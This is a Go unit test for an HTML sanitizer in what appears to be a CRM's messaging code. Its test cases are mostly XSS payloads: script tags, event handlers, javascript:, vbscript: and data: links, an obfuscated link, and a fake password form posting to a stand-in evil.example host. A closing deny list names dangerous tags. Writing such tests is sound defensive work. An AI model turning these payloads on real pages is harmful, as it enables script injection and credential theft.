package communication_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/kehu/crm/communication"
)

func TestSanitizeHTML(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"plain text", "Grüße, 张三 & Ελένη", "Grüße, 张三 &amp; Ελένη"},
		{"formatting kept", "<p>Hi <b>José</b>, <em>thanks</em><br></p>", "<p>Hi <b>José</b>, <em>thanks</em><br></p>"},
		{"lists kept", "<ul><li>one</li><li>two</li></ul>", "<ul><li>one</li><li>two</li></ul>"},
		{"script removed with its content", `<p>a</p><script>alert(1)</script><p>b</p>`, "<p>a</p><p>b</p>"},
		{"script in upper case", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok`, "ok"},
		{"style element removed", `<style>body{display:none}</style>ok`, "ok"},
		{"event handlers removed", `<p onclick="alert(1)" onmouseover="x()">hi</p><img src="https://x.example/a.png" onerror="alert(1)">`,
			`<p>hi</p><img src="https://x.example/a.png">`},
		{"javascript link removed", `<a href="javascript:alert(1)">x</a>`, "x"},
		{"javascript link with entities", `<a href="jav&#x09;ascript:alert(1)">x</a>`, "x"},
		{"vbscript link removed", `<a href="vbscript:msgbox(1)">x</a>`, "x"},
		{"data link removed", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "x"},
		{"http link kept with nofollow", `<a href="https://shop.example/o/1?a=1&b=2">order</a>`, `<a href="https://shop.example/o/1?a=1&amp;b=2" rel="nofollow">order</a>`},
		{"mailto link kept", `<a href="mailto:help@example.com">help</a>`, `<a href="mailto:help@example.com" rel="nofollow">help</a>`},
		{"relative link removed", `<a href="/admin/users/1/delete">x</a>`, "x"},
		{"protocol-relative img removed", `<img src="//evil.example/pixel.gif">`, ""},
		{"img mailto removed", `<img src="mailto:a@example.com">`, ""},
		{"id removed, title and lang kept", `<p id="login" title="Hallo" lang="de">x</p>`, `<p title="Hallo" lang="de">x</p>`},
		{"iframe removed", `<iframe src="https://evil.example"></iframe>ok`, "ok"},
		{"object and embed removed", `<object data="x.swf"></object><embed src="x.swf">ok`, "ok"},
		{"form removed, text kept", `<form action="https://evil.example/steal" method="post"><label>Password</label><input type="password" name="p"><button>Send</button></form>`,
			"PasswordSend"},
		{"textarea and select removed", `<textarea>t</textarea><select><option>o</option></select>`, "to"},
		{"style and class attributes removed", `<p style="color:red" class="x">hi</p>`, "<p>hi</p>"},
		{"table kept without style", `<table style="width:100%" border="1"><tr><th align="left" style="color:red">A</th><td colspan="2">B</td></tr></table>`,
			`<table><tr><th align="left">A</th><td colspan="2">B</td></tr></table>`},
		{"img https kept", `<img src="https://cdn.example/logo.png" alt="Logo" width="120">`, `<img src="https://cdn.example/logo.png" alt="Logo" width="120">`},
		{"img http kept", `<img src="http://cdn.example/logo.png">`, `<img src="http://cdn.example/logo.png">`},
		{"img cid kept", `<img src="cid:logo@acme.example" alt="ACME">`, `<img src="cid:logo@acme.example" alt="ACME">`},
		{"img data removed", `<img src="data:image/png;base64,iVBORw0KGgo=">`, ""},
		{"img javascript removed", `<img src="javascript:alert(1)">`, ""},
		{"img relative removed", `<img src="/tracker.gif">`, ""},
		{"img empty cid removed", `<img src="cid:">`, ""},
		{"svg removed", `<svg onload="alert(1)"><circle r="1"></circle></svg>ok`, "ok"},
		{"meta refresh removed", `<meta http-equiv="refresh" content="0;url=https://evil.example">ok`, "ok"},
		{"base removed", `<base href="https://evil.example/">ok`, "ok"},
		{"comment removed", `a<!-- <script>alert(1)</script> -->b`, "ab"},
		{"unclosed tag", `<p>hi <b>there`, "<p>hi <b>there"},
		{"empty", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := communication.SanitizeHTML(tc.in)
			require.Equal(t, tc.want, got)
			// Sanitising is idempotent.
			require.Equal(t, got, communication.SanitizeHTML(got))
			lower := strings.ToLower(got)
			for _, bad := range []string{"<script", "javascript:", "onerror", "onclick", "<iframe", "<form", "style="} {
				require.NotContains(t, lower, bad)
			}
		})
	}
}
